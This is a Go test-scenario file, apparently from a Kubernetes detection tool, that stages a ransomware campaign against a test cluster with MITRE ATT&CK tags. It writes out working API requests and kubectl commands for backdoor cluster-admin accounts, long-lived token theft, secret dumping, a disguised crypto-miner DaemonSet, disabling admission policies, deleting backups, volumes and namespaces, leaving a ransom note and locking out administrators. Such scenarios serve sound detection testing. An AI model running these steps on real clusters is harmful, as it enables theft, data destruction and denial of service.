package play

import (
	"fmt"
	"time"

	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

const (
	botAgent      = "Go-http-client/1.1"
	imageImpostor = "docker.io/kubernetesio/kube-controller:1.0.1"
	imagePause    = "docker.io/pauseyyf/pause:latest"
)

// backups is what a platform team keeps to recover from: a backup's record, a volume, a policy that guards.
const backups = `apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: backups.velero.io}
spec:
  group: velero.io
  scope: Namespaced
  names: {plural: backups, singular: backup, kind: Backup}
  versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}]
---
apiVersion: v1
kind: Namespace
metadata: {name: velero}
---
apiVersion: v1
kind: PersistentVolumeClaim
metadata: {name: warehouse, namespace: data}
spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: {name: no-privileged-pods}
spec:
  failurePolicy: Fail
  matchConstraints: {resourceRules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [pods]}]}
  validations: [{expression: "!object.spec.containers.exists(c, has(c.securityContext) && has(c.securityContext.privileged) && c.securityContext.privileged)"}]
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata: {name: no-privileged-pods}
spec: {policyName: no-privileged-pods, validationActions: [Deny]}
`

// Ransom is a campaign that finds a cluster open to everybody: it stays, mines, copies, and destroys what could help to
// recover.
func Ransom(s *stage.Stage) {
	c := Found(s)
	s.Images(imageImpostor, imagePause)
	c.Mira.MustApply(join(backups, inClusterWebhook), "apply", "-f", "-")
	s.Sleep(settled)
	c.Mira.MustApply("apiVersion: velero.io/v1\nkind: Backup\nmetadata: {name: nightly-1, namespace: velero}\nspec: {ttl: 720h}\n", "apply", "-f", "-")
	s.Notable("T1098.006", "an administrator opens the cluster to everybody by mistake").
		As(c.Mira).Do(func(a *stage.Act) {
		a.Must("create", "clusterrolebinding", "dashboard-open", "--clusterrole=cluster-admin", "--user=system:anonymous")
	})
	bot := s.Anonymous(s.Outside("bot", "198.51.100.23"))
	campaign(s, bot)
	var token string
	s.Attack("T1528", "Persistence: Create token", "has a token made for that account that lasts for years").
		As(bot).Do(func(a *stage.Act) {
		_, body := a.Request(botAgent, "POST", "/api/v1/namespaces/kube-system/serviceaccounts/kube-controller/token", `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"expirationSeconds":315360000}}`)
		token = between(body, `"token": "`, `"`, `"token":"`)
	})
	operator := s.Bearer(s.Outside("operator", "203.0.113.201"), token, nil)
	s.Attack("T1550.001", "Persistence: Container service account", "uses that token from another address").
		As(operator).Do(func(a *stage.Act) {
		a.Kubectl("auth", "whoami")
		a.Kubectl("get", "namespaces")
	})
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "copies the secrets namespace by namespace, helm's left out").
		As(operator).Do(func(a *stage.Act) {
		for _, ns := range []string{"payments", "shop", "data", "ci"} {
			a.Kubectl("-n", ns, "get", "secrets", "-l", "owner!=helm", "-o", "json")
		}
	})
	unguard(s, operator)
	ransom(s, operator)
	lockOut(s, operator)
}

// campaign is the automatic part: check, make room, stay, mine.
func campaign(s *stage.Stage, bot *stage.Actor) {
	s.Attack("T1595", "Initial Access: Exposed sensitive interfaces", "looks without a credential whether the API answers").
		As(bot).Do(func(a *stage.Act) {
		a.Request(botAgent, "GET", "/api/v1/namespaces?limit=1", "")
		a.Request(botAgent, "GET", "/apis/apps/v1/daemonsets?limit=500", "")
	})
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "lists secrets without a credential").
		As(bot).Do(func(a *stage.Act) { a.Request(botAgent, "GET", "/api/v1/secrets?limit=10", "") })
	s.Attack("T1489", "Impact: Denial of service", "deletes what other campaigns are known to leave").
		As(bot).Do(func(a *stage.Act) {
		for _, d := range []string{"kube-secure-fhgxt", "api-proxy", "worker-deployment", "sysmon-deploy"} {
			a.Request(botAgent, "DELETE", "/apis/apps/v1/namespaces/default/deployments/"+d, "")
		}
	})
	s.Attack("T1098.006", "Persistence: Backdoor account", "makes an account, a role and a binding that look like a controller's").
		As(bot).Do(func(a *stage.Act) {
		a.Request(botAgent, "POST", "/apis/rbac.authorization.k8s.io/v1/clusterroles", `{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"system:controller:kube-controller"},"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`)
		a.Request(botAgent, "POST", "/api/v1/namespaces/kube-system/serviceaccounts", `{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"kube-controller"}}`)
		a.Request(botAgent, "POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", `{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"system:controller:kube-controller"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"system:controller:kube-controller"},"subjects":[{"kind":"ServiceAccount","name":"kube-controller","namespace":"kube-system"}]}`)
	})
	s.Attack("T1610", "Execution: New container", "runs an image with a name like Kubernetes' own on every node").
		As(bot).Do(func(a *stage.Act) {
		a.Request(botAgent, "POST", "/apis/apps/v1/namespaces/kube-system/daemonsets", daemonSet("kube-system", "kube-controller", imageImpostor, `[app, serve]`, "serviceAccountName: kube-controller", ""), "Content-Type: application/yaml")
	})
	s.Attack("T1496", "Impact: Resource hijacking", "runs a miner that looks like a pause container on every node").
		As(bot).Do(func(a *stage.Act) {
		a.Request(botAgent, "POST", "/apis/apps/v1/namespaces/default/daemonsets", `{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"proxy-api"},"spec":{"selector":{"matchLabels":{"app":"proxy-api"}},"template":{"metadata":{"labels":{"app":"proxy-api"}},"spec":{"hostNetwork":true,"tolerations":[{"operator":"Exists"}],"terminationGracePeriodSeconds":0,"containers":[{"name":"pause","image":"`+imagePause+`","imagePullPolicy":"IfNotPresent","command":["sleep","3600"],"env":[{"name":"LB","value":"stratum://pool.example.net:443"}]}]}}}}`)
	})
}

// unguard takes away what would refuse or record.
func unguard(s *stage.Stage, who *stage.Actor) {
	s.Attack("T1562.001", "Defense Evasion: Disable or modify tools", "deletes the binding of the policy that refuses privileged pods").
		As(who).Do(func(a *stage.Act) { a.Must("delete", "validatingadmissionpolicybinding", "no-privileged-pods") })
	s.Attack("T1562.001", "Defense Evasion: Disable or modify tools", "has an admission webhook look only at a namespace that does not exist").
		As(who).Do(func(a *stage.Act) {
		a.Must("patch", "validatingwebhookconfiguration", "cert-manager-webhook", "--type=json", "-p", `[{"op":"add","path":"/webhooks/0/namespaceSelector","value":{"matchLabels":{"kubernetes.io/metadata.name":"none"}}}]`)
	})
	s.Attack("T1490", "Impact: Data destruction", "deletes the records of all backups").
		As(who).Do(func(a *stage.Act) {
		a.Request(goClient, "DELETE", "/apis/velero.io/v1/namespaces/velero/backups", "")
	})
}

// ransom destroys in bulk and leaves its note.
func ransom(s *stage.Stage, who *stage.Actor) {
	s.Attack("T1485", "Impact: Data destruction", "deletes the claims of volumes").
		As(who).Do(func(a *stage.Act) {
		a.Request(goClient, "DELETE", "/api/v1/namespaces/data/persistentvolumeclaims", "")
	})
	s.Attack("T1489", "Impact: Denial of service", "evicts the pods of payments, one after the other").
		As(who).Do(func(a *stage.Act) {
		for _, app := range []string{"api", "ledger"} {
			name := s.Pod("payments", "app="+app).Name
			a.Request(goClient, "POST", "/api/v1/namespaces/payments/pods/"+name+"/eviction", `{"apiVersion":"policy/v1","kind":"Eviction","metadata":{"name":"`+name+`"},"deleteOptions":{"gracePeriodSeconds":0}}`)
		}
	})
	s.Attack("T1485", "Impact: Data destruction", "deletes the workloads of shop by collection, their pods left to the collector").
		As(who).Do(func(a *stage.Act) {
		a.Request(goClient, "DELETE", "/apis/apps/v1/namespaces/shop/deployments?propagationPolicy=Background", "")
		a.Request(goClient, "DELETE", "/api/v1/namespaces/shop/services", "")
	})
	s.Attack("T1485", "Impact: Data destruction", "deletes secrets and config maps of payments by collection").
		As(who).Do(func(a *stage.Act) {
		a.Request(goClient, "DELETE", "/api/v1/namespaces/payments/secrets", "")
		a.Request(goClient, "DELETE", "/api/v1/namespaces/payments/configmaps", "")
	})
	s.Attack("T1491", "Impact: Denial of service", "leaves a note in every namespace").
		As(who).Do(func(a *stage.Act) {
		for _, ns := range []string{"payments", "shop", "data"} {
			a.Kubectl("-n", ns, "create", "configmap", "how-to-recover-your-files", "--from-literal=note=write to ransom@example.net, pay in XMR")
		}
	})
}

// lockOut keeps the owners from helping themselves.
func lockOut(s *stage.Stage, who *stage.Actor) {
	s.Attack("T1499", "Impact: Denial of service", "lets shop have no pods any more").
		As(who).Do(func(a *stage.Act) { a.Must("-n", "shop", "create", "quota", "zero", "--hard=pods=0,services=0") })
	s.Attack("T1499", "Impact: Denial of service", "makes every new pod more important than all others").
		As(who).Do(func(a *stage.Act) {
		a.Must("create", "priorityclass", "default-priority", "--value=1000000000", "--global-default=true")
	})
	s.Attack("T1070", "Defense Evasion: Delete Kubernetes events", "deletes the events of namespaces by collection").
		As(who).Do(func(a *stage.Act) {
		for _, ns := range []string{"shop", "payments", "default"} {
			a.Request(goClient, "DELETE", fmt.Sprintf("/api/v1/namespaces/%s/events", ns), "")
		}
	})
	s.Attack("T1489", "Impact: Denial of service", "drives everything off the node by a taint").
		As(who).Do(func(a *stage.Act) {
		a.Must("taint", "node", "node1", "maintenance=true:NoExecute")
		s.Sleep(3 * time.Second)
	})
	s.Attack("T1531", "Impact: Denial of service", "takes the teams' and the administrators' rights").
		As(who).Do(func(a *stage.Act) {
		a.Request(goClient, "DELETE", "/apis/rbac.authorization.k8s.io/v1/namespaces/payments/rolebindings", "")
		a.Must("delete", "clusterrolebinding", "platform-admins", "developers-view")
	})
	s.Attack("T1485", "Impact: Data destruction", "deletes namespace data and drops its finalizers").
		As(who).Do(func(a *stage.Act) {
		a.Request(goClient, "DELETE", "/api/v1/namespaces/data", "")
		a.Request(goClient, "PUT", "/api/v1/namespaces/data/finalize", `{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"data"},"spec":{"finalizers":[]}}`)
	})
}
